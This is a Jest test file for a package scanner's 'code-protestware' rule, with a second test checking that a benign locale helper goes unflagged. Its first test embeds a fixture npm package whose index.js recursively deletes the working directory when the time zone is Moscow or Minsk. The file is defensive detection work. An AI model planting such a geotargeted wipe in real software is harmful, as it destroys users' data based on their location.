import { describe, expect, it } from '@jest/globals';
import { codeProtestware } from '../../../src/analysis/rules/code-protestware.js';
import { gating, runOn } from './helpers.js';

describe('code-protestware', () => {
  it('flags files deleted for users in one country', async () => {
    const findings = await runOn(codeProtestware, 'npm', {
      'package/package.json': JSON.stringify({ name: 'demo', version: '1.0.0', main: 'index.js' }),
      'package/index.js': [
        "const fs = require('fs');",
        'const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;',
        "if (tz === 'Europe/Moscow' || tz === 'Europe/Minsk') {",
        '  fs.rmSync(process.cwd(), { recursive: true, force: true });',
        '}',
      ].join('\n'),
    });
    expect(findings[0].severity).toBe('critical');
  });

  it('keeps a localisation helper that compares locales below the gate', async () => {
    const findings = await runOn(codeProtestware, 'pypi', {
      'demo-1.0/setup.py': "from setuptools import setup\nsetup(name='demo')\n",
      'demo-1.0/demo/i18n.py':
        "import locale\ndef plural_rules():\n    lang = locale.getlocale()[0] or ''\n    if lang.startswith('ru'):\n        return 'ru'\n    return 'en'\n",
    });
    expect(gating(findings)).toEqual([]);
  });
});
